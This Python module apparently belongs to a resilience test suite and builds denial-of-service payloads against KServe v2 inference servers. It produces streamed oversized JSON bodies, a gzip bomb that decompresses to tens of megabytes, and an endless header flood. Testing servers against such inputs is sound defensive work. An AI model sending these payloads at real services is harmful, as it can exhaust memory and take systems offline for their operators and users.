"""What the attacks send, built so that the client's own memory stays small.

Large bodies are generators of one reused chunk (a 60 MB body never exists
in memory at once); only the gzip bomb is materialised, and it is ~59 KB.
Every JSON body here is a valid KServe v2 request for the target model with a
`data` array far longer than its shape allows, so the server must read (and,
today, parse) all of it before it can say what is wrong.
"""

from __future__ import annotations

import zlib
from collections.abc import Iterator

MB = 1_000_000
CHUNK = 1 << 20  # bytes per write of a streamed body

_DATA_ITEM = b"0,"  # repeats well: deflate reaches its ~1,030:1 ceiling on it


def _json_ends(tensor: str) -> tuple[bytes, bytes]:
    head = (f'{{"inputs":[{{"name":"{tensor}","shape":[1,4],"datatype":"FP32","data":[').encode()
    return head, b"0]}]}"


def json_body(size: int, tensor: str = "x") -> Iterator[bytes]:
    """A v2 infer body of exactly `size` bytes (valid JSON), in chunks of at
    most `CHUNK` bytes: a `data` array of zeros."""
    head, tail = _json_ends(tensor)
    middle = size - len(head) - len(tail)
    if middle < 0:
        raise ValueError(f"a JSON body needs at least {len(head) + len(tail)} bytes, not {size}")
    yield head
    if middle % 2:  # "0," items fill the middle; an odd remainder is one space
        yield b" "
        middle -= 1
    block = _DATA_ITEM * (CHUNK // 2)
    while middle > 0:
        n = min(middle, len(block))
        yield block if n == len(block) else block[:n]
        middle -= n
    yield tail


def gzip_bomb(decoded_size: int, tensor: str = "x") -> bytes:
    """`json_body(decoded_size)` gzip-compressed at level 9, compressed chunk
    by chunk (~59 KB for 60 MB)."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)  # gzip framing
    out = [compressor.compress(chunk) for chunk in json_body(decoded_size, tensor)]
    out.append(compressor.flush())
    return b"".join(out)


def decoded_size(compressed: bytes, step: int = CHUNK) -> int:
    """How many bytes a gzip/zlib body decodes to, decoding at most `step`
    bytes at a time (never the whole output at once)."""
    decoder = zlib.decompressobj(zlib.MAX_WBITS | 32)
    total = 0
    data = compressed
    while data:
        out = decoder.decompress(data, step)
        total += len(out)
        data = decoder.unconsumed_tail
    while not decoder.eof:
        out = decoder.decompress(b"", step)
        if not out:
            break
        total += len(out)
    return total


def request_head(
    method: str,
    path: str,
    host: str,
    *,
    length: int | None = None,
    headers: dict[str, str] | None = None,
    chunked: bool = False,
) -> bytes:
    """An HTTP/1.1 request line and headers, ending with the blank line."""
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}"]
    if length is not None:
        lines.append(f"Content-Length: {length}")
    if chunked:
        lines.append("Transfer-Encoding: chunked")
    lines += [f"{name}: {value}" for name, value in (headers or {}).items()]
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")


def header_flood(path: str, host: str, total: int, line_size: int = 1000) -> Iterator[bytes]:
    """A request line, then `total` bytes of header lines (`X-Flood-<n>: aaa…`)
    in ~`CHUNK`-byte writes, never ending the header block."""
    yield f"GET {path} HTTP/1.1\r\nHost: {host}\r\n".encode("latin-1")
    value = b"a" * line_size
    per_chunk = max(1, CHUNK // (line_size + 20))
    sent = 0
    n = 0
    while sent < total:
        lines = []
        for _ in range(per_chunk):
            lines.append(b"X-Flood-%d: %s\r\n" % (n, value))
            n += 1
        chunk = b"".join(lines)
        yield chunk
        sent += len(chunk)


def v2_infer_body(tensor: str = "x") -> bytes:
    """A normal request for the attacks' small model: one item of 4 floats."""
    return (
        f'{{"inputs":[{{"name":"{tensor}","shape":[1,4],"datatype":"FP32",'
        '"data":[1.0,2.0,3.0,4.0]}]}'
    ).encode()
